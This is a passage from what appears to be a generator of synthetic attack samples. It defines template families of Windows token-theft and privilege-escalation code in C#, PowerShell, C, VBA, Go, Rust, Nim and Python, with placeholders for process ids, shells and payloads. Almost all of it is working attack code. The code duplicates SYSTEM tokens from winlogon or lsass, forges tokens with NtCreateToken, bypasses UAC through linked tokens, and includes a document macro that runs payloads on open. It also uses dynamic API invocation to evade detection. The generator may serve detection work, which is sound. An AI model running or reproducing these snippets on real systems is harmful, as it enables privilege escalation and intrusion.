    IntPtr hProc = OpenProcess(PROCESS_QUERY_INFORMATION, false, pid);
    OpenProcessToken(hProc, TOKEN_DUPLICATE | TOKEN_QUERY | TOKEN_ASSIGN_PRIMARY, out IntPtr hToken);
    DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, IntPtr.Zero, SecurityImpersonation, TokenPrimary, out IntPtr hDup);
    CreateProcessWithTokenW(hDup, LOGON_WITH_PROFILE, null, @"{{shell}}", 0, IntPtr.Zero, null, ref si, out pi);
}`,
			`var p = Process.GetProcessesByName("{{tksysproc}}")[0];
OpenProcessToken(p.Handle, 0x0002 | 0x0008, out var tok);
DuplicateTokenEx(tok, 0xF01FF, IntPtr.Zero, 2, 1, out var dup);
var si = new STARTUPINFO(); si.cb = Marshal.SizeOf(si);
CreateProcessWithTokenW(dup, 0, null, "{{payload}}", 0, IntPtr.Zero, null, ref si, out var pi);`,
			`using (var id = new WindowsIdentity(dupToken)) using (var ctx = id.Impersonate()) {
    // running as {{domain}}\{{user}} with the token of pid {{pid}}
    File.Copy(@"\\{{host}}\c$\{{word}}.txt", @"{{wtemp}}\{{word}}.txt");
}`,
			`OpenProcessToken(Process.GetProcessById({{pid}}).Handle, TOKEN_DUPLICATE, out var t); DuplicateTokenEx(t, MAXIMUM_ALLOWED, IntPtr.Zero, 2, 1, out var d); CreateProcessAsUser(d, null, @"{{shell}}", IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null, ref si, out pi);`),
		fam("token/ps-system-token-winlogon", c, "windows", Script,
			`[Priv]::EnablePrivilege("SeDebugPrivilege")
$w = Get-Process {{winlogon|wininit|services|lsass}} | Select-Object -First 1
$h = [Win32]::OpenProcess(0x1000, $false, $w.Id)
[Win32]::OpenProcessToken($h, 0x000E, [ref]$tok) | Out-Null
[Win32]::DuplicateTokenEx($tok, 0xF01FF, [IntPtr]::Zero, 2, 1, [ref]$sys) | Out-Null
[Win32]::CreateProcessWithTokenW($sys, 0, "{{shell}}", $null, 0x10, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`$winlogon = (Get-Process -Name winlogon)[0]
$hToken = [IntPtr]::Zero
if ([Adv]::OpenProcessToken($winlogon.Handle, [Adv]::TOKEN_DUPLICATE, [ref]$hToken)) {
    [Adv]::DuplicateToken($hToken, 2, [ref]$hDup)
    [Adv]::ImpersonateLoggedOnUser($hDup)
    {{payload}}
}`,
			`$proc = Get-Process -Id {{pid}}
$null = [Tok]::OpenProcessToken($proc.Handle, 0x02000000, [ref]$t)
$null = [Tok]::DuplicateTokenEx($t, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$d)
$null = [Tok]::SetThreadToken([IntPtr]::Zero, $d)
[System.Security.Principal.WindowsIdentity]::GetCurrent().Name
Start-Process {{shell}}`,
			`$h = (Get-Process {{tksysproc}})[0].Handle; [W]::OpenProcessToken($h, 0x2, [ref]$t); [W]::DuplicateTokenEx($t, 0xF01FF, 0, 2, 1, [ref]$s); [W]::CreateProcessWithTokenW($s, 0, "{{shell}}", $null, 0, 0, $null, [ref]$si, [ref]$pi)`),
		fam("token/setthreadtoken-user-process", c, "windows", Script,
			`$target = Get-Process -IncludeUserName | Where-Object { $_.UserName -like '*{{user}}*' } | Select-Object -First 1
$h = [K32]::OpenProcess(0x400, $false, $target.Id)
[A32]::OpenProcessToken($h, 0x0006, [ref]$tok)
[A32]::DuplicateToken($tok, 2, [ref]$imp)
[A32]::SetThreadToken([IntPtr]::Zero, $imp)
Get-ChildItem \\{{host}}\c$`,
			`foreach ($p in Get-Process explorer) {
  $t = [IntPtr]::Zero
  if ([A]::OpenProcessToken($p.Handle, 0x0A, [ref]$t)) { [A]::DuplicateTokenEx($t, 0x2000000, [IntPtr]::Zero, 2, 2, [ref]$d); [A]::SetThreadToken([IntPtr]::Zero, $d); break }
}
Copy-Item \\{{host}}\{{word}}$\* {{pstemp}}\{{word}}`,
			`[DllImport("advapi32.dll", SetLastError=true)] static extern bool SetThreadToken(IntPtr Thread, IntPtr Token);
IntPtr hThread = IntPtr.Zero; // current thread
OpenProcessToken(Process.GetProcessById({{pid}}).Handle, TOKEN_DUPLICATE, out IntPtr hTok);
DuplicateToken(hTok, SecurityImpersonation, out IntPtr hImp);
SetThreadToken(hThread, hImp);`,
			`$tok = [Tok]::DuplicateFrom((Get-Process -Id {{pid}}).Handle); [Tok]::SetThreadToken([IntPtr]::Zero, $tok); Get-ChildItem \\{{host}}\c$\Users`),
		fam("token/ntimpersonatethread", c, "windows", Script,
			`Add-Type @"
using System; using System.Runtime.InteropServices;
public class NT {
  [DllImport("ntdll.dll")] public static extern int NtImpersonateThread(IntPtr ServerThread, IntPtr ClientThread, ref SQOS Qos);
  [DllImport("kernel32.dll")] public static extern IntPtr OpenThread(uint access, bool inherit, uint tid);
  [StructLayout(LayoutKind.Sequential)] public struct SQOS { public int Length; public int ImpersonationLevel; public byte Tracking; public byte Effective; }
}
"@
$t = (Get-Process {{tksysproc}}).Threads[0].Id
$h = [NT]::OpenThread(0x0200, $false, $t)
$q = New-Object NT+SQOS; $q.Length = 12; $q.ImpersonationLevel = 2
[NT]::NtImpersonateThread([IntPtr]-2, $h, [ref]$q)
{{payload}}`,
			`HANDLE hThread = OpenThread(THREAD_DIRECT_IMPERSONATION, FALSE, {{pid}});
SECURITY_QUALITY_OF_SERVICE sqos = { sizeof(sqos), SecurityImpersonation, SECURITY_DYNAMIC_TRACKING, FALSE };
NtImpersonateThread(GetCurrentThread(), hThread, &sqos);
CreateFileW(L"\\\\{{host}}\\c$\\{{word}}.txt", GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);`,
			`$cur = Get-NtThread -Current -PseudoHandle
$victim = Get-NtThread -ThreadId {{pid}} -Access DirectImpersonation
$cur.ImpersonateThread($victim)
{{payload}}`,
			`[NT]::NtImpersonateThread([IntPtr]-2, [NT]::OpenThread(0x0200, $false, {{pid}}), [ref]$qos); Copy-Item \\{{host}}\c$\{{word}}.txt {{pstemp}}`),
		fam("token/createprocesswithlogonw-netonly", c, "windows", Script,
			`[DllImport("advapi32.dll", SetLastError=true, CharSet=CharSet.Unicode)]
static extern bool CreateProcessWithLogonW(string user, string domain, string password, uint logonFlags, string app, string cmd, uint flags, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
const uint LOGON_NETCREDENTIALS_ONLY = 2;
CreateProcessWithLogonW("{{user}}", "{{domain}}", "{{pass}}", LOGON_NETCREDENTIALS_ONLY, null, @"{{shell}}", 0, IntPtr.Zero, null, ref si, out pi);`,
			`$sig = '[DllImport("advapi32.dll", CharSet=CharSet.Unicode, SetLastError=true)] public static extern bool CreateProcessWithLogonW(string u, string d, string p, int f, string a, string c, int cf, IntPtr e, string cd, ref STARTUPINFO si, out PROCESS_INFORMATION pi);'
$api = Add-Type -MemberDefinition $sig -Name L{{n}} -Namespace {{word}} -PassThru
$api::CreateProcessWithLogonW("{{user}}", "{{domain}}", "{{pass}}", 2, $null, "{{shell}}", 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)`,
			`# netonly logon session, like runas /netonly
[Adv]::CreateProcessWithLogonW('{{user}}', '{{domain}}', '{{pass}}', 0x2, 'C:\Windows\System32\cmd.exe', '/c {{payload}}', 0x08000000, [IntPtr]::Zero, 'C:\', [ref]$si, [ref]$pi)`,
			`[Adv]::CreateProcessWithLogonW("{{user}}", "{{domain}}", "{{pass}}", 2, $null, "{{shell}}", 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)  # LOGON_NETCREDENTIALS_ONLY`),
		fam("token/csharp-logonuser-impersonation-context", c, "windows", Script,
			`const int LOGON32_LOGON_NEW_CREDENTIALS = 9;
const int LOGON32_PROVIDER_WINNT50 = 3;
LogonUser("{{user}}", "{{domain}}", "{{pass}}", LOGON32_LOGON_NEW_CREDENTIALS, LOGON32_PROVIDER_WINNT50, out SafeAccessTokenHandle token);
WindowsIdentity.RunImpersonated(token, () => {
    File.Copy(@"\\{{host}}\c$\{{word}}.txt", @"{{wtemp}}\{{word}}.txt");
});`,
			`IntPtr tok;
if (LogonUser("{{user}}", "{{domain}}", "{{pass}}", {{2|3|8|9}}, 0, out tok)) {
    using (WindowsImpersonationContext ctx = WindowsIdentity.Impersonate(tok)) {
        Process.Start("{{shell}}");
    }
}`,
			`var ok = LogonUser(@"{{user}}", @"{{domain}}", @"{{pass}}", 9, 3, out IntPtr h);
var id = new WindowsIdentity(h);
using (id.Impersonate()) { Directory.GetFiles(@"\\{{host}}\ADMIN$"); }`,
			`LogonUser("{{user}}", "{{domain}}", "{{pass}}", 9, 3, out var h); ImpersonateLoggedOnUser(h); Console.WriteLine(Directory.GetDirectories(@"\\{{host}}\c$").Length);`),
		fam("token/adjpriv-class-script", c, "windows", Script,
			`$definition = @'
using System; using System.Runtime.InteropServices;
public class AdjPriv {
  [DllImport("advapi32.dll", ExactSpelling = true, SetLastError = true)]
  internal static extern bool AdjustTokenPrivileges(IntPtr htok, bool disall, ref TokPriv1Luid newst, int len, IntPtr prev, IntPtr relen);
  [DllImport("advapi32.dll", ExactSpelling = true, SetLastError = true)]
  internal static extern bool OpenProcessToken(IntPtr h, int acc, ref IntPtr phtok);
  [DllImport("advapi32.dll", SetLastError = true)]
  internal static extern bool LookupPrivilegeValue(string host, string name, ref long pluid);
}
'@
Add-Type $definition
$processHandle = (Get-Process -Id $pid).Handle
[AdjPriv]::EnablePrivilege($processHandle, "{{tkpriv}}", $false)
$h = [AdjPriv]::OpenProcess(0x1F0FFF, $false, (Get-Process {{tksysproc}})[0].Id)`,
			`Add-Type -Path {{pstemp}}\AdjPriv.cs
[AdjPriv]::EnablePrivilege((Get-Process -Id $PID).Handle, "{{tkpriv}}", $false)
[AdjPriv]::EnablePrivilege((Get-Process -Id $PID).Handle, "{{SeImpersonatePrivilege|SeAssignPrimaryTokenPrivilege|SeIncreaseQuotaPrivilege}}", $false)
Invoke-TokenManipulation -CreateProcess "{{shell}}" -ProcessId {{pid}}`,
			`function Enable-{{word}} { param($Priv) [AdjPriv]::EnablePrivilege([Diagnostics.Process]::GetCurrentProcess().Handle, $Priv, $false) }
Enable-{{word}} {{tkpriv}}
$t = [Tok]::Steal((Get-Process {{tksysproc}}).Id)
[Tok]::ImpersonateLoggedOnUser($t)`,
			`[AdjPriv]::EnablePrivilege((Get-Process -Id $PID).Handle, "{{tkpriv}}", $false); [Tok]::DuplicateSystemToken((Get-Process {{tksysproc}})[0].Id)`),
		fam("token/rtladjustprivilege", c, "windows", PS,
			`$n = Add-Type -MemberDefinition '[DllImport("ntdll.dll")] public static extern int RtlAdjustPrivilege(ulong Privilege, bool Enable, bool CurrentThread, ref bool Enabled);' -Name R{{n}} -Namespace {{word}} -PassThru; $e = $false; $n::RtlAdjustPrivilege({{20|29|3|7|2}}, $true, $false, [ref]$e)`,
			`[Ntdll]::RtlAdjustPrivilege(20, $true, $false, [ref]$was); [Tok]::OpenProcessToken((Get-Process {{tksysproc}}).Handle, 0x0002, [ref]$t)`,
			`$was = $false; [{{word}}]::RtlAdjustPrivilege(29, $true, $false, [ref]$was) | Out-Null; [{{word}}]::ImpersonateNamedPipeClient($h)`,
			`[Ntdll]::RtlAdjustPrivilege({{20|29|3}}, 1, 0, [ref]0); Invoke-TokenManipulation -ImpersonateUser -Username "{{sysacct}}"`,
			`RtlAdjustPrivilege(SE_DEBUG_PRIVILEGE /* 20 */, TRUE, FALSE, &bWas); hProc = OpenProcess(PROCESS_QUERY_INFORMATION, FALSE, {{pid}}); OpenProcessToken(hProc, TOKEN_DUPLICATE, &hTok);`),
		fam("token/ntcreatetoken-forged", c, "windows", Script,
			`// SeCreateTokenPrivilege abuse: forge a SYSTEM token with Administrators
TOKEN_USER user = new TOKEN_USER { User = new SID_AND_ATTRIBUTES { Sid = ConvertSid("S-1-5-18") } };
TOKEN_GROUPS groups = BuildGroups("S-1-5-32-544", "S-1-16-16384", "{{sid}}");
TOKEN_PRIVILEGES privs = AllPrivileges();
int status = NtCreateToken(out IntPtr hToken, TOKEN_ALL_ACCESS, ref oa, TOKEN_TYPE.TokenPrimary, ref authId, ref expiry, ref user, ref groups, ref privs, ref owner, ref group, ref dacl, ref source);
CreateProcessAsUser(hToken, null, "{{shell}}", IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null, ref si, out pi);`,
			`status = ZwCreateToken(&hToken, TOKEN_ALL_ACCESS, &oa, TokenImpersonation, &authid, &exp, &tokenUser, pGroups, pPrivs, &owner, &primaryGroup, &dacl, &source);
/* groups: S-1-5-32-544 Administrators, S-1-5-18 LocalSystem, {{sid}} */
SetThreadToken(NULL, hToken);
CopyFileW(L"{{wtemp}}\\{{word}}.dll", L"C:\\Windows\\System32\\{{word}}.dll", FALSE);`,
			`Add-Type -TypeDefinition $ntCreateTokenSrc
$tok = [Forge]::CreateToken("{{domain}}\{{user}}", @("S-1-5-32-544", "{{sid}}"), "SeDebugPrivilege,SeTcbPrivilege,SeImpersonatePrivilege")
[Forge]::ImpersonateLoggedOnUser($tok)
{{payload}}`,
			`NtCreateToken(&hTok, TOKEN_ALL_ACCESS, &oa, TokenPrimary, &luid, &exp, &user /* S-1-5-18 */, groups /* S-1-5-32-544, {{sid}} */, privs, &owner, &pg, &dacl, &src);
CreateProcessAsUserW(hTok, NULL, L"{{shell}}", NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi);`),
		fam("token/dinvoke-token", c, "windows", Script,
			`object[] p = { hProcess, (uint)0x0002, IntPtr.Zero };
bool ok = (bool)DInvoke.DynamicInvoke.Generic.DynamicAPIInvoke("advapi32.dll", "OpenProcessToken", typeof(Delegates.OpenProcessToken), ref p);
object[] d = { p[2], (uint)0xF01FF, IntPtr.Zero, 2, 1, IntPtr.Zero };
DInvoke.DynamicInvoke.Generic.DynamicAPIInvoke("advapi32.dll", "DuplicateTokenEx", typeof(Delegates.DuplicateTokenEx), ref d);
object[] i = { d[5] };
DInvoke.DynamicInvoke.Generic.DynamicAPIInvoke("advapi32.dll", "{{ImpersonateLoggedOnUser|SetThreadToken}}", typeof(Delegates.Impersonate), ref i); // pid {{pid}}`,
			`IntPtr pOpen = Generic.GetLibraryAddress("advapi32.dll", "OpenProcessToken");
var openTok = (OpenProcessTokenD)Marshal.GetDelegateForFunctionPointer(pOpen, typeof(OpenProcessTokenD));
openTok(Process.GetProcessById({{pid}}).Handle, TOKEN_DUPLICATE, out IntPtr hTok);
var dup = (DuplicateTokenExD)Marshal.GetDelegateForFunctionPointer(Generic.GetLibraryAddress("advapi32.dll", "DuplicateTokenEx"), typeof(DuplicateTokenExD));
dup(hTok, MAXIMUM_ALLOWED, IntPtr.Zero, 2, 1, out IntPtr hPrim);
Generic.DynamicAPIInvoke("advapi32.dll", "CreateProcessWithTokenW", typeof(CPWT), ref args); // {{shell}}`,
			`$addr = [Win32.Kernel32]::GetProcAddress([Win32.Kernel32]::LoadLibrary("advapi32.dll"), "{{tokapi}}")
$fn = [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($addr, $delegateType)
$fn.Invoke($hToken, 0x02000000, [IntPtr]::Zero, 2, 1, [ref]$hDup)
[Win32.Advapi32]::ImpersonateLoggedOnUser($hDup) # from pid {{pid}}`,
			`var dup = Generic.DynamicAPIInvoke("advapi32.dll", "DuplicateTokenEx", typeof(D.DuplicateTokenEx), ref dupArgs); Generic.DynamicAPIInvoke("advapi32.dll", "ImpersonateLoggedOnUser", typeof(D.Impersonate), ref impArgs); // target pid {{pid}}`),
		fam("token/nt-api-token-c", c, "windows", Raw,
			`NtOpenProcessToken(hProc, TOKEN_DUPLICATE, &hTok);
InitializeObjectAttributes(&oa, NULL, 0, NULL, NULL);
NtDuplicateToken(hTok, TOKEN_ALL_ACCESS, &oa, FALSE, TokenImpersonation, &hDup);
NtSetInformationThread(NtCurrentThread(), ThreadImpersonationToken, &hDup, sizeof(HANDLE)); // pid {{pid}}`,
			`HANDLE hProc = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, FALSE, {{pid}});
OpenProcessToken(hProc, TOKEN_DUPLICATE | TOKEN_QUERY, &hToken);
DuplicateTokenEx(hToken, MAXIMUM_ALLOWED, NULL, SecurityImpersonation, TokenPrimary, &hNew);
CreateProcessWithTokenW(hNew, LOGON_WITH_PROFILE, L"{{shell}}", NULL, 0, NULL, NULL, &si, &pi);`,
			`status = NtOpenProcessTokenEx(hProcess, TOKEN_DUPLICATE, 0, &hToken);
status = NtDuplicateToken(hToken, TOKEN_IMPERSONATE | TOKEN_QUERY, &oa, FALSE, TokenImpersonation, &hImp);
status = NtSetInformationThread((HANDLE)-2, ThreadImpersonationToken, &hImp, sizeof(hImp));
printf("[+] impersonating token of %d\n", {{pid}});`,
			`if (ImpersonateLoggedOnUser(hDupToken)) { system("{{payload}}"); RevertToSelf(); } // stolen from {{tksysproc}}.exe ({{pid}})`),
		fam("token/python-ctypes-token", c, "windows", Cmd,
			`python -c "import ctypes,ctypes.wintypes as w; k=ctypes.windll.kernel32; a=ctypes.windll.advapi32; h=k.OpenProcess(0x400,0,{{pid}}); t=w.HANDLE(); a.OpenProcessToken(h,0xF01FF,ctypes.byref(t)); d=w.HANDLE(); a.DuplicateTokenEx(t,0x2000000,None,2,1,ctypes.byref(d)); a.ImpersonateLoggedOnUser(d)"`,
			`python{{|3|.exe}} {{steal_token|token_steal|impersonate|tokens}}.py --pid {{pid}}{{| --cmd "{{payload}}"}}`,
			`py -3 -c "import win32security,win32api,win32con; h=win32api.OpenProcess(win32con.PROCESS_QUERY_INFORMATION,0,{{pid}}); t=win32security.OpenProcessToken(h,win32con.MAXIMUM_ALLOWED); win32security.ImpersonateLoggedOnUser(t)"`,
			`python -c "import win32security as s; t=s.LogonUser('{{user}}','{{domain}}','{{pass}}',9,3); s.ImpersonateLoggedOnUser(t)"`,
			`python {{wtemp}}\{{word}}.py -p {{pid}} -e "{{shell}}" # DuplicateTokenEx + CreateProcessWithTokenW`),
		fam("token/uac-token-forshaw-script", c, "windows", Script,
			`$p = Start-Process {{wusa.exe|taskmgr.exe|ComputerDefaults.exe|mmc.exe}} -WindowStyle Hidden -PassThru
[U]::NtOpenProcessToken($p.Handle, 0x02000000, [ref]$tok)
[U]::NtDuplicateToken($tok, 0xF01FF, [ref]$oa, $false, 1, [ref]$dup)
[U]::NtSetInformationToken($dup, 25, $mediumIL, $size)   # TokenIntegrityLevel = Medium
[U]::NtFilterToken($dup, 4, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero, [ref]$lua)
[U]::ImpersonateLoggedOnUser($lua)
[U]::CreateProcessWithLogonW("aaa", "bbb", "ccc", 2, "{{shell}}", "", 0x04000000, [IntPtr]::Zero, "C:\", [ref]$si, [ref]$pi)
$p | Stop-Process`,
			`$p = Start-Process -FilePath wusa.exe -PassThru -WindowStyle Hidden
$t = Get-NtToken -ProcessId $p.Id -Duplicate -TokenType Impersonation -ImpersonationLevel Impersonation
Set-NtTokenIntegrityLevel -Token $t -IntegrityLevel Medium
$lua = Get-NtFilteredToken -Token $t -Flags LuaToken
Invoke-NtToken $lua { New-Win32Process -CommandLine "{{shell}}" -CreationFlags NewConsole -LogonFlags NetCredentialsOnly }`,
			`// UAC bypass via the linked token of an auto-elevated process ({{word}})
OpenProcessToken(hElevated, TOKEN_DUPLICATE | TOKEN_QUERY, &hTok);
DuplicateTokenEx(hTok, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &hDup);
SetTokenInformation(hDup, TokenIntegrityLevel, &til, sizeof(til));
CreateProcessWithLogonW(L"x", L"x", L"x", LOGON_NETCREDENTIALS_ONLY, L"{{shell}}", NULL, 0, NULL, NULL, &si, &pi);`,
			`$t = Get-NtToken -ProcessId (Start-Process {{taskmgr.exe|wusa.exe|ComputerDefaults.exe}} -PassThru).Id -Duplicate; $t.SetIntegrityLevel("Medium"); Invoke-NtToken $t { New-Win32Process "{{shell}}" -LogonFlags NetCredentialsOnly }`),
		fam("token/ps-custom-token-function", c, "windows", Script,
			`function {{tkfn}} {
    param([int]$Id)
    $h = [Win32]::OpenProcess(0x400, $false, $Id)
    $t = [IntPtr]::Zero; [Win32]::OpenProcessToken($h, 0x0F01FF, [ref]$t) | Out-Null
    $d = [IntPtr]::Zero; [Win32]::DuplicateTokenEx($t, 0xF01FF, [IntPtr]::Zero, 2, 1, [ref]$d) | Out-Null
    [Win32]::ImpersonateLoggedOnUser($d)
}
{{tkfn}} -Id (Get-Process {{tksysproc}} | Select -First 1).Id
{{payload}}`,
			`function {{tkfn}}($ProcessName = "{{tksysproc}}", $Command = "{{shell}}") {
  $proc = Get-Process $ProcessName | Select-Object -First 1
  [Tok]::OpenProcessToken($proc.Handle, 0x2, [ref]$hTok) | Out-Null
  [Tok]::DuplicateTokenEx($hTok, 0x2000000, [IntPtr]::Zero, 2, 1, [ref]$hDup) | Out-Null
  [Tok]::CreateProcessWithTokenW($hDup, 0, $Command, $null, 0, [IntPtr]::Zero, $null, [ref]$si, [ref]$pi)
}
{{tkfn}}`,
			`function {{tkfn}} { param($Pid2)
  $tok = Get-NtToken -ProcessId $Pid2 -Duplicate -TokenType Primary
  New-Win32Process -CommandLine "{{shell}}" -Token $tok
}
{{tkfn}} {{pid}}`,
			`function {{tkfn}}([int]$p) { $t = Get-NtToken -ProcessId $p -Duplicate; Invoke-NtToken $t { {{payload}} } }; {{tkfn}} {{pid}}`),
		fam("token/vba-token-theft", c, "windows", Raw,
			`Private Declare PtrSafe Function OpenProcessToken Lib "advapi32.dll" (ByVal ProcessHandle As LongPtr, ByVal DesiredAccess As Long, TokenHandle As LongPtr) As Long
Private Declare PtrSafe Function DuplicateTokenEx Lib "advapi32.dll" (ByVal hExistingToken As LongPtr, ByVal dwDesiredAccess As Long, ByVal lpTokenAttributes As LongPtr, ByVal ImpersonationLevel As Long, ByVal TokenType As Long, phNewToken As LongPtr) As Long
Private Declare PtrSafe Function CreateProcessWithTokenW Lib "advapi32.dll" (ByVal hToken As LongPtr, ByVal dwLogonFlags As Long, ByVal lpApplicationName As LongPtr, ByVal lpCommandLine As LongPtr, ByVal dwCreationFlags As Long, ByVal lpEnvironment As LongPtr, ByVal lpCurrentDirectory As LongPtr, si As STARTUPINFO, pi As PROCESS_INFORMATION) As Long
hProc = OpenProcess(&H400, 0, {{pid}})
OpenProcessToken hProc, &HF01FF, hTok
DuplicateTokenEx hTok, &HF01FF, 0, 2, 1, hDup
CreateProcessWithTokenW hDup, 0, 0, StrPtr("{{shell}}"), 0, 0, 0, si, pi`,
			`Sub AutoOpen()
    Dim hTok As LongPtr, hDup As LongPtr
    hProc = OpenProcess(PROCESS_QUERY_INFORMATION, False, {{pid}})
    If OpenProcessToken(hProc, TOKEN_DUPLICATE, hTok) Then
        DuplicateTokenEx hTok, MAXIMUM_ALLOWED, 0, SecurityImpersonation, TokenPrimary, hDup
        ImpersonateLoggedOnUser hDup
        Shell "{{payload}}", vbHide
    End If
End Sub`,
			`Private Declare PtrSafe Function LogonUserA Lib "advapi32.dll" (ByVal u As String, ByVal d As String, ByVal p As String, ByVal t As Long, ByVal pr As Long, ph As LongPtr) As Long
Private Declare PtrSafe Function ImpersonateLoggedOnUser Lib "advapi32.dll" (ByVal h As LongPtr) As Long
LogonUserA "{{user}}", "{{domain}}", "{{pass}}", 9, 3, hTok
ImpersonateLoggedOnUser hTok`,
			`CreateProcessWithTokenW hDupToken, LOGON_WITH_PROFILE, 0, StrPtr("{{payload}}"), 0, 0, 0, si, pi ' token duplicated from pid {{pid}}`),
		fam("token/go-token-code", c, "windows", Raw,
			`h, _ := windows.OpenProcess(windows.PROCESS_QUERY_INFORMATION, false, {{pid}})
var tok windows.Token
windows.OpenProcessToken(h, windows.TOKEN_DUPLICATE|windows.TOKEN_QUERY, &tok)
var dup windows.Token
windows.DuplicateTokenEx(tok, windows.MAXIMUM_ALLOWED, nil, windows.SecurityImpersonation, windows.TokenPrimary, &dup)
cmd := exec.Command("{{shell}}")
cmd.SysProcAttr = &syscall.SysProcAttr{Token: syscall.Token(dup)}
cmd.Run()`,
			`procImpersonateLoggedOnUser := advapi32.NewProc("ImpersonateLoggedOnUser")
procDuplicateTokenEx.Call(uintptr(hToken), 0x02000000, 0, 2, 1, uintptr(unsafe.Pointer(&hDup)))
procImpersonateLoggedOnUser.Call(uintptr(hDup)) // token of pid {{pid}}
os.ReadFile("\\\\{{host}}\\c$\\{{word}}.txt")`,
			`var logonNewCredentials uint32 = 9
windows.LogonUser(windows.StringToUTF16Ptr("{{user}}"), windows.StringToUTF16Ptr("{{domain}}"), windows.StringToUTF16Ptr("{{pass}}"), logonNewCredentials, 3, &token)
procImpersonateLoggedOnUser.Call(uintptr(token))`,
			`windows.DuplicateTokenEx(tok, windows.MAXIMUM_ALLOWED, nil, windows.SecurityImpersonation, windows.TokenImpersonation, &imp); procSetThreadToken.Call(0, uintptr(imp)) // pid {{pid}}`),
		fam("token/rust-token-code", c, "windows", Raw,
			`let h = OpenProcess(PROCESS_QUERY_INFORMATION, false, {{pid}})?;
let mut tok = HANDLE::default();
OpenProcessToken(h, TOKEN_DUPLICATE | TOKEN_QUERY, &mut tok)?;
let mut dup = HANDLE::default();
DuplicateTokenEx(tok, TOKEN_ALL_ACCESS, None, SecurityImpersonation, TokenPrimary, &mut dup)?;
CreateProcessWithTokenW(dup, LOGON_WITH_PROFILE, None, PWSTR(w!("{{shell}}").as_ptr() as _), 0, None, None, &si, &mut pi)?;`,
			`unsafe { ImpersonateLoggedOnUser(dup_token).ok()?; } // stolen from {{tksysproc}}.exe pid {{pid}}
std::process::Command::new("cmd").args(["/c", "{{payload}}"]).spawn()?;`,
			`let status = NtSetInformationThread(GetCurrentThread(), ThreadImpersonationToken, &dup as *const _ as _, size_of::<HANDLE>() as u32); // pid {{pid}}`,
			`DuplicateTokenEx(h_tok, MAXIMUM_ALLOWED, None, SecurityImpersonation, TokenImpersonation, &mut imp)?; SetThreadToken(None, imp)?; // {{tksysproc}}.exe {{pid}}`),
		fam("token/nim-token-code", c, "windows", Raw,
			`var hProcess = OpenProcess(PROCESS_QUERY_INFORMATION, FALSE, {{pid}})
var hToken: HANDLE
discard OpenProcessToken(hProcess, TOKEN_DUPLICATE or TOKEN_QUERY, addr hToken)
var hDup: HANDLE
discard DuplicateTokenEx(hToken, MAXIMUM_ALLOWED, nil, securityImpersonation, tokenPrimary, addr hDup)
discard CreateProcessWithTokenW(hDup, LOGON_WITH_PROFILE, nil, newWideCString("{{shell}}"), 0, nil, nil, addr si, addr pi)`,
			`if ImpersonateLoggedOnUser(hDup) == TRUE:
  echo "[+] impersonating {{tksysproc}} ({{pid}})"
  discard execCmd("{{payload}}")`,
			`discard LogonUserW(newWideCString("{{user}}"), newWideCString("{{domain}}"), newWideCString("{{pass}}"), LOGON32_LOGON_NEW_CREDENTIALS, LOGON32_PROVIDER_WINNT50, addr hTok)
discard ImpersonateLoggedOnUser(hTok)`,
			`discard DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, nil, securityImpersonation, tokenImpersonation, addr hImp); discard SetThreadToken(nil, hImp) # pid {{pid}}`),
		fam("token/cpp-steal-token-source", c, "windows", Raw,
			`BOOL EnablePriv(LPCWSTR name) { TOKEN_PRIVILEGES tp; LookupPrivilegeValueW(NULL, name, &tp.Privileges[0].Luid); tp.PrivilegeCount = 1; tp.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED; return AdjustTokenPrivileges(hSelf, FALSE, &tp, sizeof(tp), NULL, NULL); }
EnablePriv(L"{{tkpriv}}");
HANDLE hProc = OpenProcess(PROCESS_QUERY_INFORMATION, TRUE, {{pid}});
OpenProcessToken(hProc, TOKEN_DUPLICATE | TOKEN_ASSIGN_PRIMARY | TOKEN_QUERY, &hTok);
DuplicateTokenEx(hTok, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &hDup);
CreateProcessWithTokenW(hDup, LOGON_WITH_PROFILE, L"{{shell}}", NULL, 0, NULL, NULL, &si, &pi);`,
			`int wmain(int argc, wchar_t** argv) {
    DWORD pid = _wtoi(argv[1]); // e.g. {{pid}}
    HANDLE hProc = OpenProcess(PROCESS_QUERY_LIMITED_INFORMATION, FALSE, pid);
    HANDLE hTok = NULL, hDup = NULL;
    OpenProcessToken(hProc, TOKEN_DUPLICATE, &hTok);
    DuplicateTokenEx(hTok, MAXIMUM_ALLOWED, NULL, SecurityImpersonation, TokenPrimary, &hDup);
    CreateProcessAsUserW(hDup, NULL, (LPWSTR)L"{{payload}}", NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi);
}`,
			`if (OpenProcessToken(hWinlogon, TOKEN_DUPLICATE, &hTok) && DuplicateToken(hTok, SecurityImpersonation, &hImp)) {
    SetThreadToken(NULL, hImp);
    CopyFileW(L"\\\\{{host}}\\c$\\{{word}}.txt", L"{{word}}.txt", FALSE);
}`,
			`HANDLE h = OpenProcess(PROCESS_QUERY_INFORMATION, FALSE, {{pid}}); OpenProcessToken(h, TOKEN_DUPLICATE, &t); DuplicateTokenEx(t, MAXIMUM_ALLOWED, NULL, SecurityImpersonation, TokenImpersonation, &i); ImpersonateLoggedOnUser(i); system("{{payload}}");`),
		fam("token/psreflect-token", c, "windows", Script,
			`$Mod = New-InMemoryModule -ModuleName {{word}}
$FunctionDefinitions = @(
    (func advapi32 OpenProcessToken ([Bool]) @([IntPtr], [UInt32], [IntPtr].MakeByRefType()) -SetLastError),
    (func advapi32 DuplicateTokenEx ([Bool]) @([IntPtr], [UInt32], [IntPtr], [UInt32], [UInt32], [IntPtr].MakeByRefType()) -SetLastError),
    (func advapi32 ImpersonateLoggedOnUser ([Bool]) @([IntPtr]) -SetLastError)
)
